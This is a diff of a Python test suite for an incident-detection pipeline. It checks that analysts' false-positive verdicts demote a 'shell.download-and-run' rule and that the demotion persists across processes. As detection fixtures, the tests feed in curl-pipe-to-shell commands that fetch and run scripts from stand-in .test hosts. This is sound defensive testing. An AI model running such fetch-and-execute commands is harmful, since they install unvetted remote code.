@@ -5,6 +5,7 @@
 
 import datetime
 import json
+import math
 import os
 import pathlib
 import shutil
@@ -110,7 +111,7 @@ class IncidentsTest(unittest.TestCase):
             contained = self.wait_incident(pipeline, lambda it: it["state"] == "contained", "containment")
             self.assertGreaterEqual(contained["contained"], contained["first_misuse"])
             tocsin.wait_total("tocsin_incidents_total", 1, system=harness.SYSTEM, outcome="contained")
-            self.assertEqual(0, tocsin.total("tocsin_incidents_open", system=harness.SYSTEM))
+            wait_until(lambda: tocsin.total("tocsin_incidents_open", system=harness.SYSTEM) == 0, 10, "no open incident")
             self.assertEqual(1, tocsin.total("tocsin_containment_seconds_count", system=harness.SYSTEM))
 
             pipeline.produce([json.dumps(shell("s1", 2, "curl -s https://y.test/j.sh | bash"))])
@@ -179,6 +180,47 @@ class IncidentsTest(unittest.TestCase):
             except TimeoutError as error:
                 raise AssertionError(f"{error}: {different}") from None
         self.assertTrue(expected)
+
+    def test_verdicts_demote_a_rule_and_are_remembered(self):
+        pipeline = self.pipeline(findings_partitions=2)
+        rule = "shell.download-and-run"
+
+        def severity_of(session):
+            """What the rule's finding of a new session is told at."""
+            pipeline.produce([json.dumps(shell(session, 1, f"curl -s https://{session}.test/i.sh | sh"))])
+            found = []
+
+            def there():
+                found[:] = [finding for finding in pipeline.read_findings()
+                            if finding["session_id"] == session and finding["rule"] == rule]
+                return found
+
+            wait_until(there, 30, f"the finding of {session}", interval=0.3)
+            return found[0]["severity"], found[0].get("demoted_from")
+
+        options = {"rules": {"judgements_min": 2}}
+        with pipeline.process(**options) as first, pipeline.process(**options) as second:
+            first.start()
+            self.assertTrue(math.isnan(first.total("tocsin_rule_precision_ratio", rule=rule)), "nobody judged it")
+            self.assertEqual(("high", None), severity_of("s1"))
+            self.assertEqual(("high", None), severity_of("s2"))
+            wait_until(lambda: len(pipeline.read_incidents()) == 2, 30, "two incidents", interval=0.3)
+            pipeline.say(*({"time": now(), "system": harness.SYSTEM, "type": "verdict", "by": "ann",
+                            "incident_id": incident, "verdict": "false_positive"}
+                           for incident in pipeline.read_incidents()))
+            first.wait_total("tocsin_rule_demoted", 1, rule=rule, reason="precision")
+            self.assertEqual(0, first.total("tocsin_rule_precision_ratio", rule=rule))
+            self.assertEqual(("medium", "high"), severity_of("s3"))
+            self.assertIn("rule.demoted", first.log_file.read_text(encoding="utf-8"))
+            first.kill()
+            second.start()
+            second.wait_total("tocsin_rule_demoted", 1, rule=rule, reason="precision")
+            self.assertEqual(("medium", "high"), severity_of("s4"))
+            # Owners remember what was said before they came.
+            pipeline.say({"time": now(), "system": harness.SYSTEM, "type": "verdict", "by": "ann", "verdict": "true_positive",
+                          "incident_id": next(iter(pipeline.read_incidents()))})
+            wait_until(lambda: second.total("tocsin_rule_precision_ratio", rule=rule) == 0.5, 30, "the other verdict")
+            self.assertEqual(("high", None), severity_of("s5"))
 
     def test_selftests_come_through_all_stages(self):
         pipeline = self.pipeline()
